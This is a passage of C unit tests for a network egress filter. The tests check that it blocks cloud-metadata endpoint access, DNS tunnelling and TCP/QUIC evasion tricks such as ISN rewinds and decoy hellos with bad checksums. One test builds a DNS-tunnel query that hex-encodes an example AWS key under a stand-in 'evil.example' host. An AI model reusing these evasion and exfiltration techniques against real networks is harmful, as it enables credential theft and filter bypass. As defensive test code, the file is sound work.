static void metadata_host_tweak(struct engine_config *c)
{
	c->metadata_critical = true;
}

static void metadata_allow_tweak(struct engine_config *c)
{
	c->metadata_allow = true;
}

static void test_metadata_addresses(void **state)
{
	(void)state;
	const char *yes[] = {"169.254.169.254", "fd00:ec2::254", "169.254.170.2",
	                     "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe"};
	const char *no[] = {"169.254.169.253", "169.254.170.3", "fd00:ec2::253", "198.51.100.1",
	                    "2001:db8::a9fe:a9fe", "::ffff:169.254.170.1"};
	for (size_t i = 0; i < sizeof yes / sizeof *yes; i++) {
		struct addr a = A(yes[i]);
		assert_true(engine_is_metadata(&a));
	}
	for (size_t i = 0; i < sizeof no / sizeof *no; i++) {
		struct addr a = A(no[i]);
		assert_false(engine_is_metadata(&a));
	}
}

static void test_metadata_guard(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	/* an allowed name whose DNS answer points at the metadata endpoint: denied
	 * at the SYN, flagged metadata (high: gateway) */
	bind_name(h, "www.example.com", "169.254.169.254");
	uint64_t a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
	assert_true(last_ev(h)->bits & IND_METADATA);
	assert_int_equal(last_ev(h)->sev, SEVERITY_HIGH);
	/* the same over UDP, through a binding */
	bind_name(h, "ntp.example.com", "169.254.170.2");
	uint8_t pkt[256];
	size_t n = build_udp(pkt, "192.0.2.1", "169.254.170.2", 5000, 123, "ntp", 3);
	uint64_t u = feed(h, pkt, n, 2);
	assert_int_equal(h->vlast[u], VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_METADATA);
	/* IPv6 */
	uint64_t b = syn(h, "2001:db8:1::10", "fd00:ec2::254", 40001, 443, 3);
	assert_int_equal(h->vlast[b], VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_METADATA);
	/* a link-local neighbour is no metadata endpoint */
	syn(h, "192.0.2.1", "169.254.1.1", 40002, 443, 4);
	assert_false(last_ev(h)->bits & IND_METADATA);
	/* an IP entry that lists it allows it (and flags nothing) */
	struct policy_builder *pb = policy_builder_new();
	struct addr md = A("169.254.169.254");
	assert_int_equal(policy_builder_add_range(pb, &md, 32, P80, 2, "t.list", 1,
	                                          "169.254.169.254:80,443"),
	                 0);
	struct policy *p2 = policy_builder_finish(pb);
	assert_non_null(p2);
	engine_set_policy(h->e, p2, &h->cfg);
	policy_free(h->p);
	h->p = p2;
	uint64_t c = syn(h, "192.0.2.1", "169.254.169.254", 40003, 80, 5);
	assert_int_equal(h->vlast[c], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	/* ... on its ports only */
	uint64_t d = syn(h, "192.0.2.1", "169.254.169.254", 40004, 8080, 6);
	assert_int_equal(h->vlast[d], VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_METADATA);
	teardown_h(h);

	/* host mode: critical */
	h = setup_with(metadata_host_tweak);
	syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
	assert_true(last_ev(h)->bits & IND_METADATA);
	assert_int_equal(last_ev(h)->sev, SEVERITY_CRITICAL);
	teardown_h(h);

	/* verify mode: the SYN to it is denied already, whatever name follows */
	h = setup_with(verify_tweak);
	a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_METADATA);
	teardown_h(h);

	/* metadata = allow: no guard, the binding decides as for any address */
	h = setup_with(metadata_allow_tweak);
	bind_name(h, "www.example.com", "169.254.169.254");
	a = syn(h, "192.0.2.1", "169.254.169.254", 40000, 80, 1);
	assert_int_equal(h->vlast[a], VERDICT_PASS);
	const char *req = "GET / HTTP/1.1\r\nHost: www.example.com\r\n\r\n";
	uint64_t r = seg(h, "192.0.2.1", "169.254.169.254", 40000, 80, 0, req, strlen(req), 2);
	assert_int_equal(h->vlast[r], VERDICT_INSPECT);
	syn(h, "192.0.2.1", "169.254.170.2", 40001, 443, 3);
	assert_false(last_ev(h)->bits & IND_METADATA);
	teardown_h(h);
}

static void test_table_full(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	engine_free(h->e);
	h->cfg.max_flows = 2;
	struct engine_hooks hooks = {on_verdict, on_event, on_resolve, h};
	h->e = engine_new(&h->cfg, h->p, h->b, &hooks);
	bind_name(h, "api.example.com", "198.51.100.10");
	uint8_t half[2048];
	size_t hn = build_hello(half, "api.example.com", false, 0, 1) / 2;
	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.10", 1, 443, 1)], VERDICT_PASS);
	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.10", 2, 443, 1)], VERDICT_PASS);
	/* full of SYN-only flows: the oldest is evicted, and its later packets denied */
	uint64_t c = syn(h, "192.0.2.1", "198.51.100.10", 3, 443, 1);
	assert_int_equal(h->vlast[c], VERDICT_PASS);
	uint64_t late = seg(h, "192.0.2.1", "198.51.100.10", 1, 443, 0, half, hn, 1);
	assert_int_equal(h->vlast[late], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "no_syn");
	/* full of flows that hold packets: nothing is evicted, the new flow is denied */
	uint64_t h2 = seg(h, "192.0.2.1", "198.51.100.10", 2, 443, 0, half, hn, 1);
	uint64_t h3 = seg(h, "192.0.2.1", "198.51.100.10", 3, 443, 0, half, hn, 1);
	assert_int_equal(h->vcount[h2] + h->vcount[h3], 0);
	c = syn(h, "192.0.2.1", "198.51.100.10", 4, 443, 1);
	assert_int_equal(h->vlast[c], VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "flow_table_full");
	/* held flows time out, idle flows go away, then there is room again */
	engine_tick(h->e, 3 * S);
	assert_int_equal(h->vlast[h2], VERDICT_DENY);
	assert_int_equal(h->vlast[h3], VERDICT_DENY);
	engine_tick(h->e, 31 * S + 1);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.flows_tracked, 0);
	uint64_t d = syn(h, "192.0.2.1", "198.51.100.10", 3, 443, 32 * S);
	assert_int_equal(h->vlast[d], VERDICT_PASS);
	/* engine_free drops held packets */
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t e = seg(h, "192.0.2.1", "198.51.100.10", 3, 443, 0, hello, n / 2, 32 * S);
	assert_int_equal(h->vcount[e], 0);
	engine_free(h->e);
	assert_int_equal(h->vlast[e], VERDICT_DENY);
	h->e = NULL;
	teardown_h(h);
}

/* ---- DNS ---- */

static size_t build_query(uint8_t *out, uint16_t id, const char *name, uint16_t qtype,
                          uint16_t qdcount)
{
	memset(out, 0, 12);
	put16(out, id);
	put16(out + 2, 0x0100);
	put16(out + 4, qdcount);
	size_t o = 12;
	const char *p = name;
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);
		out[o++] = (uint8_t)l;
		memcpy(out + o, p, l);
		o += l;
		p += l;
		if (*p == '.')
			p++;
	}
	out[o++] = 0;
	put16(out + o, qtype);
	put16(out + o + 2, 1);
	return o + 4;
}

static void test_dns_ech_modes(void **state)
{
	(void)state;
	/* ech = deny answers HTTPS/SVCB empty; allow relays ech params as they are */
	struct addr cl = A("192.0.2.1");
	uint8_t msg[512];
	struct dns_query q;
	size_t n = build_query(msg, 10, "api.example.com", DNS_TYPE_HTTPS, 1);
	struct h *h = setup_with(tweak_ech_deny);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 7), DNS_EMPTY);
	assert_true(engine_dns_strip_ech(h->e));
	teardown_h(h);
	h = setup_with(tweak_ech_allow);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 7), DNS_FORWARD);
	assert_false(engine_dns_strip_ech(h->e));
	teardown_h(h);
}

static void test_dns_guard(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	struct addr cl = A("192.0.2.1");
	uint8_t msg[512];
	struct dns_query q;
	size_t n = build_query(msg, 7, "api.example.com", DNS_TYPE_A, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 1), DNS_FORWARD);
	assert_string_equal(q.qname, "api.example.com");
	assert_int_equal(h->nev, 0);
	/* answer: one A record, bound to the name */
	uint8_t ans[512];
	memcpy(ans, msg, n);
	put16(ans + 2, 0x8180);
	put16(ans + 6, 1);
	size_t o = n;
	put16(ans + o, 0xc00c);
	put16(ans + o + 2, DNS_TYPE_A);
	put16(ans + o + 4, 1);
	put32(ans + o + 6, 300);
	put16(ans + o + 10, 4);
	ans[o + 12] = 198;
	ans[o + 13] = 51;
	ans[o + 14] = 100;
	ans[o + 15] = 77;
	o += 16;
	engine_dns_answer(h->e, &q, ans, o, &cl, 2);
	struct addr bound = A("198.51.100.77");
	assert_true(bind_has(h->b, &bound, "api.example.com", 3));
	assert_int_equal(last_ev(h)->kind, EVENT_DNS_ALLOW);
	/* and a SYN to it now passes */
	assert_int_equal(h->vlast[syn(h, "192.0.2.1", "198.51.100.77", 1, 443, 4)], VERDICT_PASS);

	/* not allowed */
	n = build_query(msg, 8, "evil.example.net", DNS_TYPE_A, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 5), DNS_REFUSE);
	assert_int_equal(last_ev(h)->kind, EVENT_DNS_DENY);
	assert_string_equal(last_ev(h)->qname, "evil.example.net");
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	/* the apex of a wildcard is not covered */
	n = build_query(msg, 9, "cdn.example.com", DNS_TYPE_A, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_REFUSE);
	n = build_query(msg, 9, "x.cdn.example.com", DNS_TYPE_AAAA, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_FORWARD);
	/* a name allowed on another port only is still resolvable */
	n = build_query(msg, 9, "ssh.example.com", DNS_TYPE_A, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 6), DNS_FORWARD);
	/* HTTPS records carry ECH configs: with ech = outer forwarded, the shell strips them */
	n = build_query(msg, 10, "api.example.com", DNS_TYPE_HTTPS, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 7), DNS_FORWARD);
	assert_true(engine_dns_strip_ech(h->e));
	/* tunnel: hex-encoded key in labels, TXT */
	char name[200], hex[64] = "";
	const char *key = "AKIAIOSFODNN7EXAMPLE";
	for (size_t i = 0; i < strlen(key); i++)
		snprintf(hex + 2 * i, 3, "%02x", (unsigned char)key[i]);
	snprintf(name, sizeof name, "%s.t.evil.example", hex);
	n = build_query(msg, 11, name, DNS_TYPE_TXT, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 8), DNS_REFUSE);
	assert_true(last_ev(h)->bits & IND_DNS_TUNNEL);
	assert_true(last_ev(h)->bits & IND_CREDENTIAL);
	assert_int_equal(last_ev(h)->sev, SEVERITY_CRITICAL);
	/* many distinct names under one parent */
	unsigned before = h->nev;
	bool tunnel = false;
	for (unsigned i = 0; i < 25; i++) {
		snprintf(name, sizeof name, "n%u.many.example", i);
		n = build_query(msg, (uint16_t)i, name, DNS_TYPE_A, 1);
		assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 9), DNS_REFUSE);
		if (i < 18)
			assert_false(last_ev(h)->bits & IND_DNS_TUNNEL);
		tunnel |= (last_ev(h)->bits & IND_DNS_TUNNEL) != 0;
	}
	assert_true(tunnel);
	assert_int_equal(h->nev, before + 25);
	/* malformed: two questions -> refused with the parser's reason */
	n = build_query(msg, 12, "api.example.com", DNS_TYPE_A, 2);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 10), DNS_REFUSE);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, dns_err_name(DNS_QDCOUNT));
	/* a response sent to us, and a short header: dropped */
	put16(msg + 2, 0x8180);
	put16(msg + 4, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, 11), DNS_DROP);
	assert_int_equal(engine_dns_query(h->e, msg, 5, &cl, 5353, &q, 11), DNS_DROP);
	teardown_h(h);
}

static void test_set_policy(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	bind_name(h, "api.example.com", "198.51.100.10");
	syn(h, "192.0.2.1", "198.51.100.10", 1, 443, 1);
	/* reload with an empty policy: the undecided flow is decided on the new one */
	struct policy *empty = policy_builder_finish(policy_builder_new());
	engine_set_policy(h->e, empty, &h->cfg);
	policy_free(h->p);
	h->p = empty;
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t a = seg(h, "192.0.2.1", "198.51.100.10", 1, 443, 0, hello, n, 2);
	assert_int_equal(h->vlast[a], VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	teardown_h(h);
}

/* ---- issue 9: incarnations, sequence space ---- */

static uint64_t tcp_raw(struct h *h, const char *src, const char *dst, uint16_t sport,
                        uint32_t seq, uint8_t flags, const void *pl, size_t n, uint64_t now)
{
	uint8_t pkt[4096];
	assert_true(n < 4000);
	size_t len = build_tcp(pkt, src, dst, sport, 443, seq, flags, pl, n);
	return feed(h, pkt, len, now);
}

/* Allowed hello, RST, a new SYN from the same port: the new hello is read again. */
static void test_incarnation_tcp(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 1);
	uint64_t a = seg(h, cl, sv, 40000, 443, 0, hello, n, 2);
	assert_one_verdict(h, a, VERDICT_ALLOW);
	unsigned nev = h->nev;
	/* queued before the mark: same incarnation, same verdict, no event */
	uint64_t rst = tcp_raw(h, cl, sv, 40000, ISN + 1 + (uint32_t)n, 0x04 | ACK, NULL, 0, 3);
	assert_one_verdict(h, rst, VERDICT_ALLOW);
	uint64_t again = syn(h, cl, sv, 40000, 443, 4); /* retransmitted SYN, same ISN */
	assert_one_verdict(h, again, VERDICT_ALLOW);
	assert_int_equal(h->nev, nev);
	/* a new connection on the same 4-tuple: new ISN, undecided */
	uint32_t isn2 = ISN + 70000;
	uint64_t s2 = tcp_raw(h, cl, sv, 40000, isn2, SYN, NULL, 0, 5);
	assert_one_verdict(h, s2, VERDICT_PASS);
	tcp_raw(h, cl, sv, 40000, isn2 + 1, ACK, NULL, 0, 6);
	n = build_hello(hello, "evil.example.net", false, 0, 1);
	uint64_t b = tcp_raw(h, cl, sv, 40000, isn2 + 1, ACK | PSH, hello, n, 7);
	assert_one_verdict(h, b, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_NAME_NOT_ALLOWED);
	teardown_h(h);
}

/* ALLOW is re-issued only briefly, and only inside the connection's sequence space. */
static void test_incarnation_reissue_bounds(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 1);
	assert_one_verdict(h, seg(h, cl, sv, 40000, 443, 0, hello, n, 2), VERDICT_ALLOW);
	/* far outside the sequence space: not this connection */
	uint64_t far = tcp_raw(h, cl, sv, 40000, ISN + 0x90000000u, ACK | PSH, "x", 1, 3);
	assert_one_verdict(h, far, VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "no_syn");
	/* another flow, too late: a mid-stream packet of an entry conntrack made anew */
	syn(h, cl, sv, 40001, 443, 10);
	assert_one_verdict(h, seg(h, cl, sv, 40001, 443, 0, hello, n, 11), VERDICT_ALLOW);
	uint64_t late = seg(h, cl, sv, 40001, 443, n, "x", 1, 11 + 6 * S);
	assert_one_verdict(h, late, VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "no_syn");
	teardown_h(h);
}

/* UDP: a datagram after the re-issue window is a new entry and is decided again. */
static void test_incarnation_udp(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	uint8_t pkt[256];
	struct addr a = A("198.51.100.123");
	assert_int_equal(bind_add(h->b, "ntp.example.com", &a, 3 * S, 0), 0);
	size_t n = build_udp(pkt, "192.0.2.1", "198.51.100.123", 5000, 123, "ntp", 3);
	assert_one_verdict(h, feed(h, pkt, n, 1), VERDICT_ALLOW);
	assert_one_verdict(h, feed(h, pkt, n, 2 * S), VERDICT_ALLOW);
	/* the binding has expired; conntrack forgot the flow; the engine must not remember it */
	uint64_t late = feed(h, pkt, n, 8 * S);
	assert_one_verdict(h, late, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_IP_NOT_ALLOWED);
	teardown_h(h);
}

/* ISN rewind after the handshake: the decoy at the old sequence is never read. */
static void test_isn_rewind(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	syn(h, cl, sv, 40000, 443, 1);
	assert_one_verdict(h, seg(h, cl, sv, 40000, 443, 0, NULL, 0, 2), VERDICT_PASS);
	/* a retransmitted SYN with the same ISN is harmless */
	assert_one_verdict(h, syn(h, cl, sv, 40000, 443, 3), VERDICT_PASS);
	uint64_t rw = tcp_raw(h, cl, sv, 40000, ISN - 5000, SYN, NULL, 0, 4);
	assert_one_verdict(h, rw, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, "syn_after_ack");
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t decoy = tcp_raw(h, cl, sv, 40000, ISN - 5000 + 1, ACK | PSH, hello, n, 5);
	assert_one_verdict(h, decoy, VERDICT_DENY);
	/* before the ACK a SYN may still re-base (a fresh ISN on retransmission) */
	syn(h, cl, sv, 40001, 443, 6);
	assert_one_verdict(h, tcp_raw(h, cl, sv, 40001, ISN + 9, SYN, NULL, 0, 7), VERDICT_PASS);
	assert_one_verdict(h, tcp_raw(h, cl, sv, 40001, ISN + 10, ACK | PSH, hello, n, 8),
	                   VERDICT_ALLOW);
	teardown_h(h);
}

static void tcp_flag_case(uint8_t flags, const char *detail)
{
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 1);
	uint64_t a = tcp_raw(h, cl, sv, 40000, ISN + 1, flags, hello, n, 2);
	assert_one_verdict(h, a, VERDICT_DENY);
	assert_int_equal(last_ev(h)->reason, REASON_MALFORMED);
	assert_string_equal(last_ev(h)->detail, detail);
	teardown_h(h);
}

/* Segments the server reads differently from egressd are denied on undecided flows. */
static void test_tcp_flags_undecided(void **state)
{
	(void)state;
	tcp_flag_case(PSH, "data_without_ack");
	tcp_flag_case(ACK | PSH | 0x20, "tcp_urgent");
	tcp_flag_case(ACK | 0x04, "data_with_rst");
	/* URG on a bare ACK (the pointer names later bytes) */
	struct h *h = setup_with(NULL);
	bind_name(h, "api.example.com", "198.51.100.10");
	syn(h, "192.0.2.1", "198.51.100.10", 40000, 443, 1);
	uint64_t u = tcp_raw(h, "192.0.2.1", "198.51.100.10", 40000, ISN + 1, ACK | 0x20, NULL, 0, 2);
	assert_one_verdict(h, u, VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "tcp_urgent");
	teardown_h(h);
}

/* Fill in the TCP checksum of an IPv4 packet built by build_tcp. */
static void fix_csum4(uint8_t *pkt, size_t len)
{
	uint8_t *t = pkt + 20;
	size_t l4 = len - 20;
	t[16] = t[17] = 0;
	uint32_t sum = 6 + (uint32_t)l4;
	for (size_t i = 12; i < 20; i += 2)
		sum += (uint32_t)(pkt[i] << 8 | pkt[i + 1]);
	for (size_t i = 0; i < l4; i += 2)
		sum += (uint32_t)(t[i] << 8 | (i + 1 < l4 ? t[i + 1] : 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(t + 16, (uint16_t)~sum);
}

static uint64_t feed_csum(struct h *h, uint8_t *pkt, size_t len, bool good, uint64_t now)
{
	fix_csum4(pkt, len);
	if (!good)
		pkt[len - 1] ^= 0x01;
	uint64_t id = h->next_handle++;
	engine_packet_flags(h->e, id, pkt, len, 1000, ENGINE_PKT_CSUM_VALID, now);
	return id;
}

/* Checksums the kernel computed are checked on undecided flows; NOT_READY ones are not. */
static void test_tcp_checksum(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048], pkt[4096];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	size_t len = build_tcp(pkt, cl, sv, 40000, 443, ISN, SYN, NULL, 0);
	assert_one_verdict(h, feed_csum(h, pkt, len, true, 1), VERDICT_PASS);
	len = build_tcp(pkt, cl, sv, 40000, 443, ISN + 1, ACK | PSH, hello, n);
	assert_one_verdict(h, feed_csum(h, pkt, len, true, 2), VERDICT_ALLOW);
	/* a decoy hello with a bad checksum: the server drops it, egressd denies the flow */
	len = build_tcp(pkt, cl, sv, 40001, 443, ISN, SYN, NULL, 0);
	feed_csum(h, pkt, len, true, 3);
	len = build_tcp(pkt, cl, sv, 40001, 443, ISN + 1, ACK | PSH, hello, n);
	assert_one_verdict(h, feed_csum(h, pkt, len, false, 4), VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "bad_checksum");
	/* a SYN with a bad checksum makes no flow */
	len = build_tcp(pkt, cl, sv, 40002, 443, ISN, SYN, NULL, 0);
	assert_one_verdict(h, feed_csum(h, pkt, len, false, 5), VERDICT_DENY);
	/* without the flag (checksum not ready) nothing is judged: the zero checksums above */
	syn(h, cl, sv, 40003, 443, 6);
	assert_one_verdict(h, seg(h, cl, sv, 40003, 443, 0, hello, n, 7), VERDICT_ALLOW);
	teardown_h(h);
}

static uint64_t feed_acked(struct h *h, const uint8_t *pkt, size_t len, uint64_t now)
{
	uint64_t id = h->next_handle++;
	engine_packet_flags(h->e, id, pkt, len, 1000, ENGINE_PKT_ACKED, now);
	return id;
}

/* Issue 10: the handshake ACK passed in the kernel (ct mark ACKED); the
 * engine learns it from the next packet's flag: a SYN with another ISN is
 * still an ISN rewind, the hello is read from the first ISN, and the kernel's
 * ACK counts as one bare packet. */
static void test_acked_in_kernel(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	uint8_t pkt[4096], hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	bind_name(h, "api.example.com", sv);
	syn(h, cl, sv, 40000, 443, 1);
	/* the rewind SYN comes first after the kernel's ACK */
	size_t len = build_tcp(pkt, cl, sv, 40000, 443, ISN - 5000, SYN, NULL, 0);
	assert_one_verdict(h, feed_acked(h, pkt, len, 2), VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "syn_after_ack");
	/* without the flag the same SYN re-bases (nothing held yet, no ACK seen) */
	syn(h, cl, sv, 40001, 443, 3);
	len = build_tcp(pkt, cl, sv, 40001, 443, ISN - 5000, SYN, NULL, 0);
	assert_one_verdict(h, feed(h, pkt, len, 4), VERDICT_PASS);
	/* the usual case: SYN, (ACK in the kernel), hello with the flag: allowed */
	syn(h, cl, sv, 40002, 443, 5);
	len = build_tcp(pkt, cl, sv, 40002, 443, ISN + 1, ACK | PSH, hello, n);
	assert_one_verdict(h, feed_acked(h, pkt, len, 6), VERDICT_ALLOW);
	teardown_h(h);
	/* the kernel's ACK is one of bare_packets */
	h = setup_with(NULL);
	bind_name(h, "api.example.com", sv);
	syn(h, cl, sv, 40003, 443, 1);
	struct engine_config c;
	engine_config_defaults(&c);
	for (unsigned i = 0; i + 2 < c.bare_packets; i++) {
		len = build_tcp(pkt, cl, sv, 40003, 443, ISN + 1, ACK, NULL, 0);
		assert_one_verdict(h, feed_acked(h, pkt, len, 2 + i), VERDICT_PASS);
	}
	len = build_tcp(pkt, cl, sv, 40003, 443, ISN + 1, ACK, NULL, 0);
	assert_one_verdict(h, feed_acked(h, pkt, len, 100), VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "bare_packets");
	teardown_h(h);
}

/* QUIC: after the re-issue window a datagram is a new incarnation: it must be an Initial. */
static void test_incarnation_quic(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	struct qsplit q;
	bind_name(h, "api.example.com", "198.51.100.10");
	q_split(&q, "api.example.com", NULL);
	feed(h, q.d1, q.n1, 1);
	assert_one_verdict(h, feed(h, q.d2, q.n2, 2), VERDICT_ALLOW);
	uint8_t zr[64] = {0x40, 1, 2, 3}, pkt[128];
	memset(zr + 4, 0x5a, sizeof zr - 4);
	size_t zn = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5100, 443, zr, sizeof zr);
	assert_one_verdict(h, feed(h, pkt, zn, 3 * S), VERDICT_ALLOW); /* in the window */
	uint64_t late = feed(h, pkt, zn, 9 * S); /* a short header on a new conntrack entry */
	assert_one_verdict(h, late, VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_QUIC);
	teardown_h(h);
}

static uint64_t feed_ct_new(struct h *h, const uint8_t *pkt, size_t len, uint64_t now)
{
	uint64_t id = h->next_handle++;
	engine_packet_flags(h->e, id, pkt, len, 1000, ENGINE_PKT_CT_NEW, now);
	return id;
}

/* A packet conntrack has no entry for, on a flow decided ALLOW: conntrack
 * forgot the connection. QUIC: read again after the race window (a garbage
 * datagram is denied); one that raced the decision is released. TCP: a
 * mid-stream segment is no_syn at once. */
static void test_incarnation_ct_new(void **state)
{
	(void)state;
	struct h *h = setup_with(quic_tweak);
	struct qsplit q;
	bind_name(h, "api.example.com", "198.51.100.10");
	q_split(&q, "api.example.com", NULL);
	feed(h, q.d1, q.n1, 1);
	assert_one_verdict(h, feed(h, q.d2, q.n2, 2), VERDICT_ALLOW);
	uint8_t zr[64] = {0x40, 1, 2, 3}, pkt[128];
	memset(zr + 4, 0x5a, sizeof zr - 4);
	size_t zn = build_udp(pkt, "192.0.2.1", "198.51.100.10", 5100, 443, zr, sizeof zr);
	unsigned nev = h->nev;
	assert_one_verdict(h, feed_ct_new(h, pkt, zn, 2 + S / 10), VERDICT_ALLOW); /* raced */
	assert_int_equal(h->nev, nev);
	uint64_t again = feed_ct_new(h, pkt, zn, 2 + S); /* within REISSUE_NS, no entry */
	assert_one_verdict(h, again, VERDICT_DENY);
	assert_true(last_ev(h)->bits & IND_QUIC);

	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	syn(h, cl, sv, 40000, 443, 3 * S);
	assert_one_verdict(h, seg(h, cl, sv, 40000, 443, 0, hello, n, 3 * S + 1), VERDICT_ALLOW);
	/* queued before the mark (conntrack knows the entry): re-issued */
	assert_one_verdict(h, seg(h, cl, sv, 40000, 443, n, "x", 1, 3 * S + 2), VERDICT_ALLOW);
	uint8_t tp[4096];
	size_t tn = build_tcp(tp, cl, sv, 40000, 443, ISN + 1 + (uint32_t)n + 1, ACK | PSH, "y", 1);
	uint64_t pick = feed_ct_new(h, tp, tn, 3 * S + 3);
	assert_one_verdict(h, pick, VERDICT_DENY);
	assert_string_equal(last_ev(h)->detail, "no_syn");
	teardown_h(h);
}

/* engine_reset (the fuzzer reuses one engine): held packets are dropped, the
 * flow is forgotten, policy and bindings stay; the engine then decides anew. */
static void test_engine_reset(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.10";
	bind_name(h, "api.example.com", sv);
	uint8_t hello[2048];
	size_t n = build_hello(hello, "api.example.com", false, 0, 1);
	uint64_t s = syn(h, cl, sv, 40000, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint64_t part = seg(h, cl, sv, 40000, 443, 0, hello, n / 2, 2);
	assert_int_equal(h->vcount[part], 0); /* held: the hello is incomplete */
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.flows_tracked, 1);
	assert_int_equal(st.held_packets, 1);

	assert_int_equal(engine_reset(h->e), 0);
	assert_int_equal(h->vcount[part], 1);
	assert_int_equal(h->vlast[part], VERDICT_DENY);
	engine_stats(h->e, &st);
	assert_int_equal(st.flows_tracked, 0);
	assert_int_equal(st.held_packets, 0);
	assert_int_equal(st.held_bytes, 0);

	/* the same connection again, whole: allowed by the kept policy and binding */
	s = syn(h, cl, sv, 40000, 443, 3);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint64_t all = seg(h, cl, sv, 40000, 443, 0, hello, n, 4);
	assert_int_equal(h->vlast[all], VERDICT_ALLOW);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	assert_int_equal(engine_reset(NULL), -EINVAL);
	teardown_h(h);
}

/* Issue 9, class 6: [dns] max_ttl. A binding lives at most max_ttl (then the
 * grace) whatever TTL the answer claims, from the DNS path and the lookup path. */
static void tweak_max_ttl(struct engine_config *c)
{
	c->bind_max_ttl = 600;
}

static void test_max_ttl_clamp(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	struct addr cl = A("192.0.2.1");
	struct addr bound = A("198.51.100.77");
	uint8_t msg[512], ans[512];
